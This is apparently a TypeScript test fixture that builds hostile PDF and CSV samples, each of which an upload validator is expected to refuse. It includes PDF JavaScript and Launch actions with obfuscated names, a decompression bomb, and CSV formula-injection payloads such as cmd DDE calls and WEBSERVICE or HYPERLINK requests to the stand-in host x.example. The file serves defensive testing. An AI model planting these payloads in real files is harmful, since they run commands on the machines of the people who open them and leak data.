import { buildPdf, objectStream } from './build-pdf.ts';
import { MARK, refused, type HostileFile } from './hostile-file.ts';

/** PDFs that act, hide or carry something. */
export function documents(): HostileFile[] {
	const script = `<< /S /JavaScript /JS (app.alert("${ MARK }")) >>`;
	const objects: readonly string[] = [
		script,
		`<< /S /J#61vaScript /JS (${ MARK }) >>`,
		`<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (${ MARK }) >>`,
		`<< /S /Launch /F (${ MARK }.exe) >>`,
		`<< /Type /EmbeddedFile /Length 3 >>`,
		`<< /Names << /EmbeddedFiles 9 0 R >> >>`,
		`<< /Type /Filespec /F (${ MARK }) >>`,
		`<< /S /SubmitForm /F (http://x.example/${ MARK }) >>`,
		`<< /S /ImportData /F (${ MARK }) >>`,
		`<< /S /GoToR /F (\\\\\\\\x.example\\\\${ MARK }) >>`,
		`<< /S /GoToE /T << >> >>`,
		`<< /AcroForm << /XFA [ (${ MARK }) ] >> >>`,
		`<< /Subtype /RichMedia >>`,
		`<< /S /Rendition /JS (${ MARK }) >>`,
		`<< /Encrypt 9 0 R >>`,
		objectStream( `3 0 ${ script }` ),
		objectStream(
			`3 0 ${ script }`,
			'/Type /#4fbjStm /Filter /FlateDecode'
		),
		objectStream( Buffer.alloc( 60_000_000 ) ),
		`<< /Type /ObjStm /Filter /LZWDecode >>\nstream\n${ MARK }\nendstream`,
		`<< /A (<script>${ MARK }</script>) >>`,
		`<< /A (<?php ${ MARK } ?>) >>`,
	];
	return refused( 'application/pdf', [
		...objects.map(
			( object, index ) =>
				[ `a PDF with object ${ index }`, buildPdf( object ) ] as const
		),
		[ 'a PDF without an end', Buffer.from( `%PDF-1.7\n${ MARK }` ) ],
		[
			'a PDF after other bytes',
			Buffer.concat( [ Buffer.from( `${ MARK }\n` ), buildPdf() ] ),
		],
	] );
}

/** Tables with cells that act. */
export function tables(): HostileFile[] {
	return refused(
		'text/csv',
		[
			`=cmd|'/C ${ MARK }'!A0`,
			`a,=cmd|'/C ${ MARK }'!A0`,
			`a;"+cmd|' /C ${ MARK }'!A0"`,
			`@SUM(1+1)*cmd|' /C ${ MARK }'!A0`,
			`-2+3+cmd|' /C ${ MARK }'!A0`,
			`=HYPERLINK("http://x.example/${ MARK }","x")`,
			`=hyperlink ("http://x.example/${ MARK }")`,
			`1,=IMPORTXML(CONCAT("http://x.example/",A1),"//${ MARK }")`,
			`=WEBSERVICE("http://x.example/${ MARK }")`,
			`=DDE("cmd";"/C ${ MARK }";"x")`,
			`\t=CALL("urlmon","${ MARK }")`,
		].map(
			( line ) =>
				[
					`a table with ${ line }`,
					Buffer.from( `a,b\n${ line }\n` ),
				] as const
		)
	);
}
